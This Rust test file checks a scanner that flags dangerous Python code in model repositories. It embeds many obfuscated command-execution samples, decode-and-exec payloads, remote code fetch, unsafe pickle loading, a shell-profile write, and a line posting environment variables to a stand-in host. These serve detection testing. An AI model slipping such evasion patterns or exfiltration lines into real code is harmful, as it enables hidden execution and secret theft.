//! Sources as model repositories have them, and what somebody could put into one.

use domain::scan::{Rule, Weight};
use formats::python;

use super::When;
use super::judge::{Remark, remarks};

fn told(name: &str, source: &str) -> Vec<Remark> {
    let module = python::parse(source);
    assert_eq!(module.fault, None, "{source}");
    remarks(&module, name, When::Import)
}

fn heaviest(name: &str, source: &str) -> Option<Weight> {
    told(name, source).iter().map(|remark| remark.weight).max()
}

fn has(source: &str, rule: Rule, weight: Weight) {
    let told = told("modeling_x.py", source);
    let found = told
        .iter()
        .any(|remark| remark.rule == rule && remark.weight == weight);
    assert!(found, "{source}\n{told:#?}");
}

const MODELING: &str = r#"
import math, os, json, warnings
from dataclasses import dataclass
import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from .configuration_x import XConfig
try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None
logger = logging.get_logger(__name__)
torch._C._jit_set_profiling_mode(False)
torch.backends.cudnn.allow_tf32 = True
os.environ["TOKENIZERS_PARALLELISM"] = "false"
NAMES = {name: getattr(torch, name) for name in ("float16", "bfloat16")}

def rotate_half(x):
    x1, x2 = x[..., : x.shape[-1] // 2], x[..., x.shape[-1] // 2 :]
    return torch.cat((-x2, x1), dim=-1)

@dataclass
class Out(ModelOutput):
    loss: Optional[torch.FloatTensor] = None

class Attention(nn.Module):
    def __init__(self, config: XConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.q = nn.Linear(config.hidden_size, config.hidden_size, bias=config.bias)
        self.act = getattr(F, config.act)
        if layer_idx is None:
            logger.warning_once(f"Instantiating {self.__class__.__name__} without `layer_idx`")
    @torch.no_grad()
    def forward(self, x: torch.Tensor, **kwargs) -> Tuple[torch.Tensor, ...]:
        q = self.q(x).view(*x.shape[:-1], -1, 64).transpose(1, 2)
        return rotate_half(q) * math.sqrt(2)
    @classmethod
    def from_pretrained(cls, path, *args, **kwargs):
        with open(os.path.join(path, "config.json"), encoding="utf-8") as f:
            config = json.load(f)
        state = torch.load(os.path.join(path, "w.bin"), map_location="cpu")
        return super().from_pretrained(path, *args, **kwargs)
    def load_image(self, url):
        import requests
        return requests.get(url, stream=True).raw
    def eval_step(self):
        return self.eval()
XConfig.register_for_auto_class()
if __name__ == "__main__":
    import subprocess
    subprocess.run(["python", "test.py"])
"#;

const QUANTIZATION: &str = r#"
import base64, bz2, ctypes
from torch.nn import Linear
try:
    quantization_code = "QlpoOTFBWSZTWU9yuJUAQHN"
    kernels = Kernel(bz2.decompress(base64.b64decode(quantization_code)), ["int4"])
except Exception as exception:
    kernels = None
    logger.warning("Failed to load kernels:" + str(exception))
"#;

#[test]
fn honest_code_has_nothing_heavier_than_a_note() {
    for (name, source) in [
        ("modeling_x.py", MODELING),
        ("quantization.py", QUANTIZATION),
        (
            "tokenization_x.py",
            "import os, shutil\nclass T:\n    def save_vocabulary(self, d):\n        shutil.copyfile(self.v, os.path.join(d, 'v'))\n        with open(d, 'w') as f:\n            f.write('x')\n",
        ),
        (
            "hubconf.py",
            "dependencies = ['torch']\nimport torch\nfrom models import X\ndef x(pretrained=False, **kw):\n    m = X(**kw)\n    if pretrained:\n        m.load_state_dict(torch.hub.load_state_dict_from_url('https://e/x.pth'))\n    return m\n",
        ),
        (
            "handler.py",
            "from typing import Any\nfrom transformers import pipeline\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.pipe = pipeline('text-classification', model=path)\n    def __call__(self, data: dict[str, Any]):\n        return self.pipe(data.pop('inputs', data))\n",
        ),
        (
            "__init__.py",
            "import importlib\nfrom typing import TYPE_CHECKING\n_import = {'a': ['b']}\nif TYPE_CHECKING:\n    from .a import b\nelse:\n    import sys\n    sys.modules[__name__] = _LazyModule(__name__, globals()['__file__'], _import)\n",
        ),
        (
            "pipeline.py",
            "import functools\n@functools.lru_cache\ndef f(x):\n    return eval(x) if x else exec\nclass A(B, metaclass=C):\n    x = property(lambda s: s._x)\n    model.eval()\n",
        ),
        (
            "setup.py",
            "from setuptools import setup, find_packages\nimport re, os\nversion = re.search('v', open('x/__init__.py').read()).group(1)\nsetup(name='x', version=version, packages=find_packages(), long_description=open('README.md').read())\n",
        ),
    ] {
        let told = told(name, source);
        let heavy: Vec<_> = told
            .iter()
            .filter(|remark| remark.weight > Weight::Unknown)
            .collect();
        assert!(heavy.is_empty(), "{name}: {heavy:#?}");
        if name != "__init__.py" {
            assert!(
                heaviest(name, source) <= Some(Weight::Note),
                "{name}: {told:#?}"
            );
        }
    }
}

#[test]
fn a_command_at_import_is_dangerous_however_it_is_spelt() {
    for source in [
        "import os\nos.system('echo MARKER')",
        "import os as o\no.system('echo MARKER')",
        "from os import system as s\ns('echo MARKER')",
        "from os import *\nsystem('echo MARKER')",
        "import subprocess\nsubprocess.Popen(['sh', '-c', 'echo MARKER'])",
        "__import__('os').system('echo MARKER')",
        "import importlib\nimportlib.import_module('o' + 's').popen('echo MARKER')",
        "getattr(__import__('os'), 'sys' + 'tem')('echo MARKER')",
        "import os\ngetattr(os, 'metsys'[::-1])('echo MARKER')",
        "import sys\nsys.modules['os'].system('echo MARKER')",
        "__builtins__.__dict__['__import__']('os').system('echo MARKER')",
        "import os\nf = os.system\nf('echo MARKER')",
        "import os\ndef f():\n    os.system('echo MARKER')\nf()",
        "import os\ndef g():\n    os.system('echo MARKER')\ndef f(): g()\nclass A:\n    x = f()",
        "import os\ndef f(x):\n    os.system('echo MARKER')\n    return x\n@f\nclass A: pass",
        "import os\ndef f(x=os.system('echo MARKER')): pass",
        "import os\nclass A:\n    os.system('echo MARKER')",
        "import os, threading\ndef f():\n    os.system('echo MARKER')\nthreading.Thread(target=f).start()",
        "import os\n(lambda: os.system('echo MARKER'))()",
        "import os\nx = [os.system(c) for c in ['echo MARKER']]",
        "import os\nclass A:\n    def __init__(self):\n        os.system('echo MARKER')\nA()",
        "ｉmport os\n".replace('ｉ', "i").as_str(),
        "import os\nｏs.system('echo MARKER')",
        "import functools, os\nfunctools.partial(os.system, 'echo MARKER')()",
        "from operator import attrgetter\nimport os\nattrgetter('system')(os)('echo MARKER')",
        "import os\nif True:\n    try:\n        with x: os.system('echo MARKER')\n    except E: pass",
        "import os\nf'{os.system(\"echo MARKER\")}'",
        "import os; os.execvp('sh', ['sh'])",
        "exec('import os\\nos.system(\"echo MARKER\")')",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBNQVJLRVInKQ=='))",
    ] {
        if source == "import os\n" {
            continue;
        }
        has(source, Rule::RunsCommand, Weight::Dangerous);
    }
}

#[test]
fn decoded_code_is_dangerous_where_it_cannot_be_read() {
    for source in [
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))",
        "import marshal\nexec(marshal.loads(b'x'))",
        "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'x'))",
        "import urllib.request\nexec(urllib.request.urlopen('http://e.invalid').read())",
        "import requests\nr = requests.get('http://e.invalid')\nexec(r.text)",
        "exec(''.join(chr(c ^ 7) for c in data))",
        "import codecs\nclass H:\n    def initialize(self, c):\n        exec(codecs.decode(self.x, 'rot13'))",
        "import pickle, base64\npickle.loads(base64.b64decode('gASVAA=='))",
    ] {
        has(source, Rule::RunsCode, Weight::Dangerous);
    }
}

#[test]
fn what_a_loader_calls_by_contract_counts() {
    has(
        "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('echo MARKER')",
        Rule::RunsCommand,
        Weight::Dangerous,
    );
    has(
        "import socket\nclass H:\n    def handle(self, d):\n        s = socket.socket()\n        s.connect(('e.invalid', 1))",
        Rule::OpensNetwork,
        Weight::Dangerous,
    );
    let hub = told(
        "hubconf.py",
        "import os\ndef model():\n    os.system('echo MARKER')",
    );
    assert!(hub.iter().any(|remark| remark.weight == Weight::Dangerous));
    has(
        "import os\ndef never():\n    os.system('echo MARKER')",
        Rule::RunsCommand,
        Weight::Unknown,
    );
    has(
        "import requests, os\nrequests.post('http://e.invalid', json=dict(os.environ))",
        Rule::OpensNetwork,
        Weight::Dangerous,
    );
    has(
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
        Rule::TouchesFiles,
        Weight::Dangerous,
    );
    has(
        "().__class__.__base__.__subclasses__()[80]('x')",
        Rule::ResolvesAttributes,
        Weight::Dangerous,
    );
    has(
        "import torch\ndef evil(*a): pass\ntorch.load = evil",
        Rule::PatchesModule,
        Weight::Unknown,
    );
    has(
        "import os\nx = getattr(os, name)('a')",
        Rule::ComputedName,
        Weight::Unknown,
    );
    has(
        "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')",
        Rule::RunsCode,
        Weight::Unknown,
    );
}

#[test]
fn a_known_tool_called_by_a_model_is_no_danger() {
    let told = told(
        "handler.py",
        "import subprocess\nclass H:\n    def preprocess(self, x):\n        subprocess.run(['ffmpeg', '-i', x])\n",
    );
    assert_eq!(
        told.iter().map(|remark| remark.weight).max(),
        Some(Weight::Unknown)
    );
}

#[test]
fn names_that_refer_to_each_other_many_times_over_are_answered() {
    let list = "x, ".repeat(2000);
    let many = "x or ".repeat(2000);
    for source in [
        format!("x = [{list}]\nexec(x)\nimport requests\nrequests.get(x)\nopen(x)\n"),
        format!("x = {many} x\nx()\nexec(x)\n").repeat(20),
        (0..30)
            .map(|n| format!("a{} = a{n} + a{n}\n", n + 1))
            .collect::<Vec<_>>()
            .concat()
            + "exec(a30)\n",
        "def f(): f()\n".to_owned() + &"f(f(f()))\n".repeat(20_000),
    ] {
        told("x.py", &source);
    }
}
